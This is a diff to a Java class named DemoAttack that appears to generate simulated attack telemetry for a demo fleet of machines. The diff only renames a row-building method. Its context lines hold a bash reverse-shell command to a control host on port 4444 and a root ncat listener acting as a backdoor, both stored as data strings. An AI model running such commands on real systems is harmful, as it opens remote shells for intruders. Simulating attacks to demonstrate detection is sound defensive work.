@@ -191,7 +191,7 @@ final class DemoAttack {
                 "bash -c bash -i >& /dev/tcp/" + CONTROL + "/4444 0>&1",
                 "root",
                 0.01);
-        jump.appears(minute + 15, "22800", DemoRows.process(shell, "cron"));
+        jump.appears(minute + 15, "22800", DemoRows.running(shell, "cron"));
         jump.appears(minute + 15, "control", DemoRows.connection(jump.ip(), CONTROL, 4444, shell));
     }
 
@@ -214,7 +214,7 @@ final class DemoAttack {
         }
         DemoMachine web = fleet.machine("web-2");
         Program door = new Program(4_100, "/usr/bin/ncat", "ncat -lk -p 4444", "root", 0);
-        web.appears(minute + 12, "4100", DemoRows.process(door, "bash"));
+        web.appears(minute + 12, "4100", DemoRows.running(door, "bash"));
         web.appears(minute + 12, "4444", DemoRows.listener(4444, door));
     }
 
@@ -265,7 +265,7 @@ final class DemoAttack {
     private static void runs(
             DemoMachine machine, int minute, int pid, String executable, String command) {
         Program program = new Program(pid, executable, command, "root", 0.02);
-        machine.appears(minute, String.valueOf(pid), DemoRows.process(program, "bash"));
+        machine.appears(minute, String.valueOf(pid), DemoRows.running(program, "bash"));
         machine.goes(minute + 35, "process", String.valueOf(pid));
     }
 }
